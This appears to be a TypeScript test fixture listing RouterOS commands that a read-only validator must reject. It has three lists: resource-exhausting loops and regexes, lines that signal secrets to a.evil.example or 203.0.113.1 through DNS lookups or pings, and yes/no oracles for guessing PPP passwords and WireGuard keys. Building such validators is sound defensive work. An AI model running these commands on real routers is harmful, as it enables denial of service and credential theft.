const lines = (text: string): readonly string[] => text.split("\n").filter((line) => line !== "");

/** Commands that change nothing, and yet can keep the router busy or fill its memory. None may pass as a read. */
export const busyCommands: readonly string[] = lines(`
:put [:range 0 999999999]
:put [:range from=0 to=999999999]
:put [:range 0 [:len "x"]]
:foreach i in=[:range 0 999999999] do={:put $i}
:put [:rndstr length=2000000000]
:put [:rndstr length=[:len "x"]]
:for i from=1 to=10000 do={:put $i}
:for i from=1 to=900 do={:for j from=1 to=900 do={:put $j}}
:foreach i in=[/interface find] do={:foreach j in=[/interface find] do={:put $j}}
:foreach i in={1;2;3} do={:foreach j in=[/log find] do={:put $j}}
:for i from=1 to=5 do={:delay 1s}
:for i from=1 to=100 do={/ip route print}
:foreach i in=[/log find] do={/log print}
:foreach i in=[/log find] do={:put [/log print as-value]}
:foreach i in=[/interface find] do={/interface ethernet monitor $i once}
:delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s
/ping 10.0.0.1 count=100; /ping 10.0.0.1 count=100
/ping 10.0.0.1 count=100 interval=5s
/ping 10.0.0.1 count=4 interval=0.01
/ping 10.0.0.1 count=4 size=60000
/ping 224.0.0.1 count=4
/ping 239.255.255.250 count=4
/ping 255.255.255.255 count=4
/ping 192.168.88.255 count=4
/ping ff02::1 count=4
/ping ::ffff:224.0.0.1 count=4
/ping 3758096385 count=4
/ping ff:ff:ff:ff:ff:ff count=4
/ping 01:00:5e:00:00:01 count=4
/ping 255.255.255.255%ether1 count=4
/ping ff02::1%ether1 count=4
/ping 192.168.88.255@main count=4
/ping 0340.0.0.1 count=4
/ping 192.168.88.0255 count=4
/ping ::ffff:e000:1 count=4
/ping ::ffff:ffff:ffff count=4
/ping 0:0:0:0:0:ffff:e000:1 count=4
/ping ::ffff:192.168.88.255 count=4
/ping "192.168.88.255 " count=4
/tool traceroute 10.0.0.1 count=1 max-hops=255
/tool traceroute 10.0.0.1 count=4 interval=0.1 timeout=5s
/tool traceroute 10.0.0.1 count=1 interval=0.1 timeout=5s
/tool profile duration=1h
/interface/monitor-traffic ether1 duration=1h
/interface/monitor-traffic ether1 duration=5s duration=1h
:for i from=1 to=10 do={/interface/monitor-traffic ether1 duration=5s}
/ip address print where comment~"(a|a)*b"
/ip address print where comment~"((a*)b)+"
/ip address print where comment~"(a+b?){20}"
:put [:range 0 10 0]
:put [:range from=0 to=10 step=0]
:for i from=0 to=1000 do={:put $i}
:foreach i in=[/interface find] do={:put [/ip route find comment=$i]}
:foreach i in=[/interface find] do={:put [/interface get $i]}
/tool profile duration=$x
/ip address print where comment~"((a{90}){90}){90}"
/ip address print where comment~"(a*)*b"
/ip address print where comment~"a{30000}"
:put ("aaa" ~ "(a+)+b")
:local p [/log get 0 message]; /ip address print where comment~$p
:local l [/log find]; :foreach i in=($l) do={/log print}
:local l [/log find]; :foreach i in=($l,$l) do={:foreach j in=($l,$l) do={:put $j}}
:local a [:convert "x" to=hex]; :local b [:convert $a to=hex]; :local c [:convert $b to=hex]; :local d [:convert $c to=hex]; :put $d
:local a [/log print as-value]; :local b "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"; :for i from=1 to=1000 do={:put $b}
/interface ethernet cable-test ether1 once
:local a "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"; :local b ($a.$a.$a.$a.$a.$a.$a.$a.$a.$a); :local c ($b.$b.$b.$b.$b.$b.$b.$b.$b.$b); :local d ($c.$c.$c.$c.$c.$c.$c.$c.$c.$c); :local e ($d.$d.$d.$d.$d.$d.$d.$d.$d.$d); :local f ($e.$e.$e.$e.$e.$e.$e.$e.$e.$e); :put [:len $f]
:local a [/ip address print as-value]; :local b "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"; :local c "$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b"; :put "$c$c"
`);

/** Whether they send something, or when, tells others what the router holds. None may pass as a read. */
export const tellingCommands: readonly string[] = lines(`
:if ([/ppp secret find name=bob] != "") do={/ping 203.0.113.1 count=1}
:if ([/system identity get name] = "x") do={:resolve a.evil.example}
:if ([/system identity get name] = "x") do={:put 1} else={/tool traceroute a.evil.example count=1}
:foreach i in=[/ip address find] do={:resolve a.evil.example}
:do {:put [/ip address get [find interface=x] address]; :resolve a.evil.example} on-error={:put 1}
:do {:error "x"} on-error={/ping a.evil.example count=1}
:onerror e in={:error "x"} do={:resolve a.evil.example}
:put (true && [:resolve a.evil.example])
:put (([/system identity get name] = "x") && [:ping 203.0.113.1 count=1])
/ip address print where address~"1" && [:resolve a.evil.example]
/ip address print where ([:resolve a.evil.example] = 1)
:put [/interface get ether9 name]; :resolve a.evil.example
:put (1 / [:len [/ip address find]]); /ping 203.0.113.1 count=1
:if ([/system identity get name] = "x") do={:error "no"}; /ping 203.0.113.1 count=1
:put [:pick [/system identity get name] 0 1]; :resolve a.evil.example
/ping 203.0.113.1 count=1 size=[:len [/system identity get name]]
/ping 203.0.113.1 count=1 ttl=$x
:resolve a.evil.example type=[/system identity get name]
:local n [/system identity get name]; :resolve $n
:local n [/system identity get name]; /ping "$n.evil.example" count=1
/ip address print 99; /ping 203.0.113.1 count=1
/ip address print from=x; /ping 203.0.113.1 count=1
/ip address find; /ping 203.0.113.1 count=1
{ :if (true) do={:error "x"}; :resolve a.evil.example }
`);

/** Ways to see a password or a script, or to guess it by yes and no. None may pass as a read. */
export const guessingCommands: readonly string[] = lines(`
/ppp secret print proplist=name where disabled=(password~"^a")
/ppp secret print count-only where disabled=(password>"m")
/ppp secret print count-only where disabled="$(password>"m")"
/ppp secret print proplist=name where name=password
/ppp/secret/find where comment=(password)
/ppp/secret/find comment=[:put (password)]
/ppp/secret/get [find disabled=(password~"^a")] name
/ppp/secret/print proplist=name from=[find disabled=(password~"^a")]
/interface/wireguard/find running=(private-key~"^A")
/system/scheduler print count-only where disabled=(on-event~"bot1")
/tool/netwatch get 0 up-script
/tool/netwatch get 0
/tool/netwatch get 0 value-name=up-script
/tool/netwatch print detail
/tool/netwatch print terse
/tool/netwatch print as-value
/tool/netwatch print proplist=host,up-script
/tool/netwatch print count-only where up-script~"^a"
/tool/netwatch print where disabled=(up-script~"^a")
/tool/netwatch find up-script~"^a"
/tool/netwatch find where (up-script~"^a")
/tool/netwatch/export
/ppp/profile get 0 on-up
/ppp/profile print
/ppp/profile export
/ip/dhcp-server get 0 lease-script
/ip/dhcp-server export
/ip/dhcp-client get 0 script
/ipv6/dhcp-client get 0 script
/tool/traffic-monitor get 0 on-event
/tool/traffic-monitor print
/ip/hotspot/user/profile get 0 on-login
`);
